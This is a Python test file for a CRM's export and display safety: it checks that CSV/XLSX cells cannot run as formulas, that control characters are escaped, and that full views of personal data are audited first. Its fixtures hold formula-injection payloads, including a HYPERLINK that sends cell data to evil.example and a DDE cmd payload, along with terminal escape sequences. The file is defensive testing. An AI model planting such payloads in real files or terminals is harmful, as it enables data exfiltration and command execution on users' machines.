"""Safe outputs (issue 10, point 4): no CSV or XLSX cell a spreadsheet runs as a formula, no
control character from the data reaching the terminal, and every full view of personal data
on record before the first byte of the output is written; on a read-only connection nothing
is written and the user reads one sentence."""

from __future__ import annotations

import ast
import csv
import io
import json
import re
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from sqlalchemy import func, select, update
from sqlalchemy.engine import make_url

from crm.core.app import App
from crm.core.errors import CrmError
from crm.core.exporting import export
from crm.core.models import AuditEntry, Household, Member
from crm.core.outfiles import FORMULA_STARTS, csv_writer, neutralised, write_xlsx
from crm.core.privacy import AUDIT_REFUSED
from crm.core.render import printable, to_json
from crm.core.security import User
from crm.plugins import BUILTIN_PLUGINS
from crm.plugins.campaigns.models import CampaignContact, CampaignRun

CRM = Path(__file__).resolve().parent.parent / "crm"
MANAGER = "王经理:manager"
# What a salesperson can type into a household name or a note.
PAYLOADS = {
    "H001": '=HYPERLINK("http://evil.example/?x="&F2,"点此查看")',
    "H002": "+1+cmd|' /C calc'!A0",
    "H003": "-2+3",
    "H004": "@SUM(1,1)",
}
FILES = {
    "households": "code,name,status,project,consent_marketing,note\n"
    + "".join(
        f'{code},"{name.replace(chr(34), chr(34) * 2)}",prospective,万科城,true,=1+1\n'
        for code, name in PAYLOADS.items()
    ),
    "members": "household_code,name,role,phone\n"
    "H001,张伟,owner,13812345678\nH002,李娜,owner,13900001111\n"
    "H003,王强,owner,13700002222\nH004,赵敏,owner,13600003333\n",
    "purchases": "contract_no,household_code,project,building,unit,purchase_date,amount,"
    "handover_date\n"
    "C-1,H001,万科城,12,1201,2022-01-05,1234567,2022-12-01\n"
    "C-2,H002,万科城,12,1202,2022-01-06,2000000,2022-12-02\n"
    "C-3,H003,万科城,12,1203,2022-01-07,2345678,2022-12-03\n"
    "C-4,H004,万科城,12,1204,2022-01-08,3456789,2022-12-04\n",
    "service": "record_no,household_code,kind,opened_at,summary\n"
    "S-1,H001,complaint,2024-03-05 09:30,@漏水 =A1\n",
}
MONTH = "2026-12"  # the fourth anniversary of the handovers above


@pytest.fixture
def loaded(app, run, tmp_path):
    for kind, text in FILES.items():
        path = tmp_path / f"{kind}.csv"
        path.write_text(text, encoding="utf-8")
        result = run("import", kind, str(path), as_=MANAGER)
        assert result.exit_code == 0 and "拒绝 0" in result.stderr, (kind, result.output)
    # Tab and CR do not survive the import's trimming; a legacy row or a script can hold them.
    with app.session() as session, session.begin():
        session.execute(
            update(Household).where(Household.code == "H004").values(note="\t=1+1", age=-1)
        )
    result = run("campaign", "create", "W1", "--name", "冬季", "--kind", "一路同行",
                 "--channel", "电话", "--template", "{家庭}您好", as_="管理员:admin")  # fmt: skip
    assert result.exit_code == 0, result.output
    assert run("campaign", "run", "W1", as_="管理员:admin").exit_code == 0
    with app.session() as session:
        run_id = session.scalar(select(func.max(CampaignRun.id)))
        assert session.scalar(select(func.count()).where(CampaignContact.run_id == run_id)) >= 3
    return run_id


def formula_cells(rows) -> list[str]:
    """Text cells a spreadsheet would run as a formula (a plain negative number is none)."""
    return [
        cell
        for row in rows
        for cell in row
        if isinstance(cell, str)
        and cell.startswith(FORMULA_STARTS)
        and not re.fullmatch(r"-\d+(\.\d+)?", cell)
    ]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def read_xlsx(path: Path) -> list[list]:
    sheet = openpyxl.load_workbook(path).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


# --- the rule itself --------------------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_starting_like_a_formula_gets_a_quote(start):
    assert neutralised(f"{start}1+1") == f"'{start}1+1"
    assert neutralised(f"a{start}1") == f"a{start}1"


def test_csv_keeps_numbers_and_neutralises_text():
    out = io.StringIO()
    csv_writer(out).writerow(["=1+1", "+8613812345678", -5, -2.5, "-5", "@x", "张伟", None])
    assert read_csv(out.getvalue()) == [
        ["'=1+1", "'+8613812345678", "-5", "-2.5", "'-5", "'@x", "张伟", ""]
    ]


def test_xlsx_cells_are_text_never_formulas_and_control_characters_do_not_raise(tmp_path):
    path = tmp_path / "x.xlsx"
    write_xlsx(path, ["=h"], [['=HYPERLINK("http://x")', "a\x1b[2Jb\x00c\x07", -3, 2.5, "+86"]])
    sheet = openpyxl.load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [(c.value, c.data_type) for c in cells] == [
        ("'=h", "s"),
        (None, "n"),
        (None, "n"),
        (None, "n"),
        (None, "n"),
        ('\'=HYPERLINK("http://x")', "s"),
        ("a\\x1b[2Jb\\x00c\\x07", "s"),
        (-3, "n"),
        (2.5, "n"),
        ("'+86", "s"),
    ]


def test_every_csv_and_xlsx_is_written_through_the_safe_writers():
    """A new CSV or XLSX writer elsewhere would bypass the rule: only outfiles.py makes them."""
    offenders = []
    for path in CRM.rglob("*.py"):
        if path.name == "outfiles.py" and path.parent.name == "core":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                offenders.append(f"{path.name}:{node.lineno}")
            if isinstance(node, ast.Name | ast.Attribute) and "Workbook" in (
                getattr(node, "id", None),
                getattr(node, "attr", None),
            ):
                offenders.append(f"{path.name}:{node.lineno}")
            if isinstance(node, ast.ImportFrom) and any(
                alias.name == "Workbook" for alias in node.names
            ):
                offenders.append(f"{path.name}:{node.lineno}")
    assert offenders == []


def test_terminal_text_shows_control_characters_as_escapes():
    assert printable("张\x1b[31m伟\x9b2J\u202e\x00\t") == "张\\x1b[31m伟\\x9b2J\\u202e\\x00\\t"
    # JSON escapes the same characters, and stays JSON: zero-width and separators included.
    data = {"name": "a\x9b\u202eb\u200b\u2028\x1b", "n": [1]}
    shown = to_json(data)
    assert not any(ch in shown for ch in "\x9b\u202e\u200b\u2028\x1b")
    assert json.loads(shown) == data and json.loads(to_json(data, indent=None)) == data


# --- every file and listing on a database with planted formulas ---------------------------------


def test_no_export_or_list_holds_a_formula_cell(loaded, run, tmp_path):
    run_id = loaded
    outputs: dict[str, list[list]] = {}
    for kind in FILES:
        for headers in ("zh", "en"):
            for suffix in ("csv", "xlsx"):
                out = tmp_path / f"{kind}-{headers}.{suffix}"
                result = run("export", kind, "-o", str(out), "--headers", headers, as_=MANAGER)
                assert result.exit_code == 0, result.output
                read = read_csv(out.read_text("utf-8")) if suffix == "csv" else read_xlsx(out)
                outputs[out.name] = read
            stdout = run("export", kind, "--headers", headers, as_=MANAGER)
            outputs[f"{kind}-{headers}-stdout"] = read_csv(stdout.stdout)
    for suffix in ("csv", "xlsx"):
        out = tmp_path / f"revisit.{suffix}"
        assert run("revisit", "due", "--month", MONTH, "-o", str(out), as_=MANAGER).exit_code == 0
        outputs[out.name] = read_csv(out.read_text("utf-8")) if suffix == "csv" else read_xlsx(out)
        out = tmp_path / f"contacts.{suffix}"
        result = run("campaign", "contacts", str(run_id), "-o", str(out), as_=MANAGER)
        assert result.exit_code == 0, result.output
        outputs[out.name] = read_csv(out.read_text("utf-8")) if suffix == "csv" else read_xlsx(out)
    for args in (
        ("household", "list"),
        ("revisit", "due", "--month", MONTH),
        ("campaign", "contacts", str(run_id)),
        ("audit", "list", "--limit", "500"),
    ):
        result = run(*args, "--format", "csv", as_=MANAGER)
        assert result.exit_code == 0, result.output
        outputs[" ".join(args)] = read_csv(result.stdout)

    found = {name: formula_cells(rows) for name, rows in outputs.items()}
    assert {name: cells for name, cells in found.items() if cells} == {}
    # The planted texts are all there, as text a person reads; the phones beside them in full.
    households = outputs["households-zh.xlsx"]
    assert households[1][1] == "'" + PAYLOADS["H001"]
    assert [row[1] for row in households[1:]] == ["'" + name for name in PAYLOADS.values()]
    assert outputs["households-en-stdout"][4][-1] == "'\t=1+1"  # note of H004
    assert ["H001", "'" + PAYLOADS["H001"]] == outputs["revisit.xlsx"][1][3:5]
    assert "13812345678" in outputs["revisit.csv"][1]
    assert len(outputs["contacts.xlsx"]) >= 4 and len(outputs[f"campaign contacts {run_id}"]) >= 4
    assert "'" + PAYLOADS["H002"] in outputs["contacts.csv"][1]
    # Real numbers stay numbers: a negative age in XLSX, and the CSV reads it as -1.
    header = outputs["households-en.xlsx"][0]
    assert outputs["households-en.xlsx"][4][header.index("age")] == -1
    assert outputs["households-en.csv"][4][header.index("age")] == "-1"


# --- control characters from the data ----------------------------------------------------------


def test_control_characters_never_reach_the_terminal_and_xlsx_takes_them(
    app, loaded, run, tmp_path, db_url, monkeypatch
):
    # The table's whole text on one line per row: a 120-column terminal would wrap it.
    monkeypatch.setenv("COLUMNS", "1000")
    # PostgreSQL text cannot hold NUL at all; SQLite can, and a legacy file may have put it there.
    nul = "\x00" if db_url.startswith("sqlite") else ""
    name = f"张\x1b[2J\x1b]0;owned\x07伟{nul}\u202e家"
    with app.session() as session, session.begin():
        session.execute(update(Household).where(Household.code == "H002").values(name=name))
        session.add(
            AuditEntry(
                actor="假\n2026-12-02 10:00  admin\x1b[1A",
                role="agent",
                action="x",
                entity="households",
            )
        )
    outputs = [
        run("household", "show", "H002", as_=MANAGER).stdout,
        run("household", "list", as_=MANAGER).stdout,
        run("household", "show", "H002", "--format", "json", as_=MANAGER).stdout,
        run("audit", "list", as_=MANAGER).stdout,
        run("export", "households", "--format", "jsonl", as_=MANAGER).stdout,
    ]
    for text in outputs:
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", text)
    assert "张\\x1b[2J\\x1b]0;owned\\x07伟" in outputs[0]
    assert "假\\n2026-12-02 10:00  admin\\x1b[1A" in outputs[3]  # one line, no forged entry

    out = tmp_path / "households.xlsx"
    result = run("export", "households", "-o", str(out), as_=MANAGER)
    assert result.exit_code == 0, result.output
    names = [row[1] for row in read_xlsx(out)]
    assert f"张\\x1b[2J\\x1b]0;owned\\x07伟{nul and chr(92) + 'x00'}\u202e家" in names


# --- audited before the first byte ---------------------------------------------------------------


class _CutShort(io.StringIO):
    """A pipe whose reader went away after the first write (`| head -1`); at that first write
    it looks, through a connection of its own, at what the audit log already holds."""

    def __init__(self, app: App):
        super().__init__()
        self.app = app
        self.seen: list[tuple[str, str]] | None = None

    def write(self, text: str) -> int:
        if self.seen is None:
            with self.app.session() as other:
                wanted = AuditEntry.action.in_(("export", "view_personal"))
                entries = other.scalars(select(AuditEntry).where(wanted).order_by(AuditEntry.id))
                self.seen = [(entry.action, entry.detail) for entry in entries]
            super().write(text)
            return len(text)
        raise BrokenPipeError(32, "Broken pipe")


def test_a_full_export_is_on_record_before_its_first_byte(app, loaded):
    manager = App(app.url, user=User("王经理", "manager"), builtins=BUILTIN_PLUGINS)
    pipe = _CutShort(manager)
    with manager.session() as session, pytest.raises(BrokenPipeError):
        export(session, "members", pipe)
    with manager.session() as session:
        ids = session.scalars(select(Member.id).order_by(Member.id)).all()
    wanted = ",".join(map(str, ids))
    assert pipe.seen == [
        ("export", "导出家庭成员 4 行（csv，表头 zh）；含完整个人信息 4 人"),
        ("view_personal", f"导出家庭成员；完整显示 4 人：{wanted}"),
    ]
    assert pipe.getvalue().startswith("户号,姓名")
    manager.dispose()


def test_a_masked_export_writes_its_entry_first_and_discloses_nothing(app, loaded):
    agent = App(app.url, user=User("小李", "agent"), builtins=BUILTIN_PLUGINS)
    pipe = _CutShort(agent)
    with agent.session() as session, pytest.raises(BrokenPipeError):
        export(session, "members", pipe)
    assert pipe.seen == [("export", "导出家庭成员 4 行（csv，表头 zh）")]
    agent.dispose()


def read_only(db_url: str) -> str:
    """The same database through a connection that cannot write."""
    url = make_url(db_url)
    if url.get_backend_name() == "sqlite":
        return f"sqlite:///file:{url.database}?mode=ro&uri=true"
    options = url.query.get("options", "") + " -cdefault_transaction_read_only=on"
    return url.update_query_dict({"options": options}).render_as_string(hide_password=False)


@pytest.mark.parametrize(
    ("args", "output"),
    [
        (["export", "members"], None),
        (["export", "members", "-o", "{tmp}/m.csv"], "m.csv"),
        (["export", "households", "-o", "{tmp}/h.xlsx"], "h.xlsx"),
        (["household", "show", "H001"], None),
        (["revisit", "due", "--month", MONTH], None),
        (["revisit", "due", "--month", MONTH, "-o", "{tmp}/r.xlsx"], "r.xlsx"),
        (["campaign", "contacts", "{run}", "-o", "{tmp}/c.csv"], "c.csv"),
        (["campaign", "contacts", "{run}", "--format", "csv"], None),
    ],
)
def test_a_read_only_connection_outputs_nothing_and_says_so(
    loaded, db_url, tmp_path, monkeypatch, args, output
):
    monkeypatch.chdir(tmp_path)  # a file: URI is a path to the SQLite driver, not to crm
    args = [arg.format(tmp=tmp_path, run=loaded) for arg in args]
    url = read_only(db_url)
    result = CliRunner().invoke(
        __import__("crm.cli", fromlist=["cli"]).cli, ["--db", url, "--as", MANAGER, *args]
    )
    assert (result.exit_code, result.stdout) == (1, ""), result.output
    assert result.stderr == f"错误：{AUDIT_REFUSED}\n"
    if output:
        assert not (tmp_path / output).exists()
        assert not (tmp_path / f"{output}.part").exists()


def test_a_read_only_connection_still_shows_masked_data(loaded, db_url, tmp_path, monkeypatch):
    from crm.cli import cli

    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(
        cli, ["--db", read_only(db_url), "--as", "小李:agent", "household", "show", "H001"]
    )
    assert result.exit_code == 0, result.output
    assert "138****5678" in result.stdout and "13812345678" not in result.stdout


def test_the_library_refuses_a_full_view_it_cannot_record(loaded, db_url, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    manager = App(read_only(db_url), user=User("王经理", "manager"), builtins=BUILTIN_PLUGINS)
    out = io.StringIO()
    with manager.session() as session, pytest.raises(CrmError, match="审计日志"):
        export(session, "members", out)
    assert out.getvalue() == ""
    manager.dispose()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_imports_back_without_its_quotes(loaded, run, tmp_path, app, fmt):
    """The quote that keeps a cell from running as a formula comes off on the way back in: an
    export with English headers imports unchanged."""
    path = tmp_path / f"households.{fmt}"
    assert (
        run("export", "households", "--headers", "en", "-o", str(path), as_=MANAGER).exit_code == 0
    )
    with app.session() as session:
        before = dict(session.execute(select(Household.code, Household.name)).all())
    result = run("import", "households", str(path), as_=MANAGER)
    # H004's age of -1 was written past the import's checks by the fixture; it is refused.
    assert result.exit_code == 0 and "更新 0，未变 3，拒绝 1" in result.stderr, result.output
    with app.session() as session:
        after = dict(session.execute(select(Household.code, Household.name)).all())
    assert after == before and after["H003"] == "-2+3"


def test_an_error_message_never_sends_control_characters_to_the_terminal(run):
    result = run("household", "show", "H\x1b[2J\x07X")
    assert result.exit_code != 0
    assert "\x1b" not in result.output and "H\\x1b[2J\\x07X" in result.output
